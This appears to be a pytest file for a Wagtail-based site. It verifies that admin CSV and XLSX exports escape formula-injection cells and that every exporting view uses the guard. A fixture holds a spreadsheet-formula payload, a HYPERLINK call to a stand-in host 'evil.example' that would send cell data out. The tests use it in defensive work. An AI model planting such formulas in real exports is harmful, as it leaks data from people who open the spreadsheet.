"""Every spreadsheet Wagtail's admin produces (site history, reports, listings with an export, form submissions)
goes through one guard (``campaigns.spreadsheets.wagtail_exports``): no cell a spreadsheet would run as a formula,
in CSV or XLSX, whatever the view. An ambassador's idea titled as a formula, once approved, is logged with its
title as label: the site history's exports keep it as text."""

import csv
import io

import pytest
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from campaigns.spreadsheets import wagtail_exports
from campaigns.spreadsheets.formulas import DANGEROUS
from ideas.models import Board, Idea, Moderation
from tests.campaigns.factories import ambassador, campaign

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
SITE_HISTORY = reverse("wagtailadmin_reports:site_history")


@pytest.fixture
def approved_formula(client_for, moderator_user):
    """An ambassador's pending idea titled as a formula, approved by a moderator (which logs it)."""
    board = Board.objects.create(campaign=campaign(slug="epargne", kind="ideation"), moderation=Board.Mode.PRE)
    idea = Idea.objects.create(
        campaign=board.campaign, author=ambassador("amb@exemple.fr"), title=FORMULA, moderation=Moderation.PENDING
    )
    client_for(moderator_user).post(
        reverse("ideas_moderation:moderate", args=["idea", idea.pk]), {"decision": "approve", "reason": ""}
    )
    idea.refresh_from_db()
    assert idea.moderation == Moderation.APPROVED
    return idea


def csv_cells(response):
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    return [cell for row in rows for cell in row]


def test_the_site_history_csv_keeps_an_ideas_formula_title_as_text(client_for, admin_user, approved_formula):
    """Was: the label came out as ``=HYPERLINK(...)`` in the CSV, run by the spreadsheet that opens it."""
    cells = csv_cells(client_for(admin_user).get(SITE_HISTORY, {"export": "csv"}))
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in DANGEROUS]


def test_the_site_history_xlsx_keeps_it_as_text_too(client_for, moderator_user, approved_formula):
    response = client_for(moderator_user).get(SITE_HISTORY, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formula = [cell for cell in cells if cell.value == FORMULA]
    assert formula and all(cell.data_type == "s" and cell.quotePrefix for cell in formula)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


class Listing(SpreadsheetExportMixin):
    """Any of Wagtail's exporting views, reduced to its rows."""

    list_export = ["title", "count"]
    export_headings = {"title": "=Titre", "count": "Nombre"}


def test_every_text_cell_of_any_wagtail_export_is_guarded_numbers_stay_numbers():
    rows = [{"title": start + "1+1", "count": -3} for start in DANGEROUS] + [{"title": "ordinaire", "count": 2}]
    view = Listing()
    text = b"".join(view.stream_csv([_Row(row) for row in rows])).decode()
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == ["'=Titre", "Nombre"]
    assert [line[0] for line in lines[1:]] == [f"'{start}1+1" for start in DANGEROUS] + ["ordinaire"]
    assert [line[1] for line in lines[1:]] == ["-3"] * len(DANGEROUS) + ["2"]
    output = io.BytesIO()
    view.write_xlsx([_Row(row) for row in rows], output)
    sheet = load_workbook(io.BytesIO(output.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if cell.column == 1 and 1 < cell.row <= 1 + len(DANGEROUS)]  # (\r reads as \n)
    assert len(texts) == len(DANGEROUS) and all(cell.quotePrefix for cell in texts)
    assert [cell.value for cell in cells if cell.column == 2][1:] == [-3] * len(DANGEROUS) + [2]


class _Row:
    def __init__(self, values):
        self.__dict__.update(values)


class _Titled:
    """An object that a view exports as is, whose text is a formula (csv calls ``str`` on it)."""

    def __str__(self):
        return FORMULA


def test_an_object_whose_text_is_a_formula_is_guarded_too():
    view = Listing()
    line = b"".join(view.stream_csv([_Row({"title": _Titled(), "count": 1})])).decode().splitlines()[1]
    assert line.startswith("\"'=HYPERLINK")


def test_every_exporting_view_mounted_in_the_admin_uses_the_guard():
    """Pinned against Wagtail: the guard replaces the mixin's own methods, which no view of Wagtail's or ours
    overrides; a new Wagtail overriding them, or renaming them, fails here."""
    assert wagtail_exports.installed()

    def views(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from views(pattern.url_patterns)
            else:
                yield getattr(pattern.callback, "view_class", None)

    exporting = {
        view for view in views(get_resolver().url_patterns) if view and issubclass(view, SpreadsheetExportMixin)
    }
    assert len(exporting) >= 5  # site history, aging and locked pages, workflows, redirects, snippets, the audit trail
    for view in exporting:
        for name in wagtail_exports.GUARDED:
            assert getattr(view, name) is getattr(SpreadsheetExportMixin, name), (view, name)
